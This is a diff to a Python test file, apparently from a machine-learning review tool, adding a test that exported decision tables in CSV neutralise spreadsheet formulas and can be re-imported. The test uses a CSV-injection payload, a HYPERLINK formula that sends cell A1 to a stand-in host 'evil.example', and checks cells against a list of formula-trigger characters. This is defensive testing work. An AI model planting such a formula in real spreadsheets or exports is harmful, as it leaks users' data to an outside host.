@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 
@@ -13,7 +16,7 @@ from jrh_mlflow.measuring.evaluate import evaluate
 from jrh_mlflow.measuring.resolve import load_suite
 from jrh_mlflow.review.contents import open_catalog
 from jrh_mlflow.review.decisions import Click, ConflictError
-from jrh_mlflow.review.finish import finish, withdraw
+from jrh_mlflow.review.finish import _events_csv, decide_from, finish, withdraw
 from jrh_mlflow.schema.items import Labels
 from jrh_mlflow.suites.suite import hold_back, read_suite
 from tests.review.making import baseline, made, opened, reviewing, saved_suite
@@ -165,3 +168,18 @@ def test_there_must_be_something_to_review(tmp_path):
     folder = saved_suite(tmp_path / "plain", [baseline("s", "plain")])
     with pytest.raises(ReviewError, match="nothing to review"):
         open_catalog((str(folder),))
+
+
+def test_the_table_of_decisions_runs_no_formula_and_can_be_taken_again(tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    review = opened(saved_suite(tmp_path / "one"))
+    decide(review, 0, "edit", text=formula, who="@Ann")
+    decide(review, 2, "reject", reason=f"+{formula}")
+    table = _events_csv(review)
+    cells = [cell for row in csv.reader(io.StringIO(table.decode(), newline="")) for cell in row]
+    assert formula in "".join(cells)
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    Path("decisions.csv").write_bytes(table)
+    other = opened(saved_suite(tmp_path / "two"))
+    assert decide_from(other, "decisions.csv") == 2
+    assert [event.after.text for event in other.decisions.events()] == [formula, None]
